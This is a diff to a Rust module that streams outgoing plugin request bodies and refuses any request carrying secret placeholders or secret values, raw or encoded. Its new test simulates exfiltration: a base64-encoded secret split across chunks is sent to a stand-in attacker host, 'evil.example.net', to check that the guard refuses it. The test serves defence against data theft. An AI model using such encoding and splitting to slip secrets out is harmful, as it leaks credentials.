@@ -1,10 +1,11 @@
-//! Outgoing request bodies, checked for secret placeholders on their way out.
+//! Outgoing request bodies, checked for secret placeholders and values on their way out.
 //!
 //! Placeholders are never substituted into bodies (a platform may echo or log a body), and a
 //! placeholder in a request to a host its secret is not bound to refuses the request, body
-//! included: the body is scanned as it streams, with enough of each chunk held back that a
-//! placeholder split across chunks is still seen, and the request is cut off before the
-//! placeholder leaves. Nothing is buffered whole.
+//! included. A secret's value, raw or encoded, refuses the request whatever its host. The
+//! body is scanned as it streams, with enough of each chunk held back that a placeholder or
+//! value split across chunks is still seen, and the request is cut off before it leaves.
+//! Nothing is buffered whole.
 
 use std::collections::VecDeque;
 use std::pin::Pin;
@@ -35,7 +36,10 @@ pub(super) struct Scanned {
 
 impl Scanned {
     pub(super) fn new(inner: WasiBody, guard: Arc<Guard>, host: String, port: u16) -> Scanned {
-        let hold = guard.secrets().longest_placeholder();
+        let hold = guard
+            .secrets()
+            .longest_placeholder()
+            .max(guard.secrets().forms().longest());
         Scanned {
             inner,
             guard,
@@ -48,14 +52,15 @@ impl Scanned {
         }
     }
 
-    /// Refuses `bytes` if they hold a placeholder not bound to this request's host.
+    /// Refuses `bytes` if they hold a placeholder not bound to this request's host, or a
+    /// secret's value.
     fn check(&mut self, bytes: &[u8]) -> Result<(), HttpError> {
-        match self
-            .guard
-            .secrets()
+        let secrets = self.guard.secrets();
+        let checked = secrets
             .substitute_bytes(bytes, &self.host, self.port)
-        {
-            Ok(_) => Ok(()),
+            .and_then(|_| secrets.refuse_values(bytes, &self.host));
+        match checked {
+            Ok(()) => Ok(()),
             Err(violation) => {
                 self.held.clear();
                 self.ready.clear();
@@ -179,10 +184,10 @@ mod tests {
         let mut secrets = Secrets::default();
         secrets.insert(
             "token".into(),
-            Secret {
-                value: SecretValue::new("s3cr3t".into()),
-                hosts: vec![HostPattern::parse("api.example.com").unwrap()],
-            },
+            Secret::new(
+                SecretValue::new("s3cr3t-value".into()),
+                vec![HostPattern::parse("api.example.com").unwrap()],
+            ),
         );
         Arc::new(Guard::new(
             "test".into(),
@@ -235,5 +240,24 @@ mod tests {
         let (out, err) = send(&[&plain[0], &plain[1]], "evil.example.net").await;
         assert_eq!(err, None);
         assert_eq!(out.len(), 100_003);
+    }
+
+    /// A value the plugin got hold of, base64-encoded and cut in two: refused before the
+    /// part that carries it leaves, to any host, the bound one included.
+    #[tokio::test]
+    async fn a_secret_value_in_a_body_is_refused_whatever_the_host() {
+        use base64::Engine as _;
+        let b64 = base64::engine::general_purpose::STANDARD.encode("s3cr3t-value");
+        let body = format!("{{\"x\": \"{b64}\"}}");
+        let (a, b) = body.split_at(12);
+        for host in ["evil.example.net", "api.example.com"] {
+            let (out, err) = send(&[a, b], host).await;
+            let err = err.expect("refused");
+            assert!(!err.contains("s3cr3t"), "{err}");
+            assert!(
+                !String::from_utf8_lossy(&out).contains(&b64[..8]),
+                "{out:?}"
+            );
+        }
     }
 }
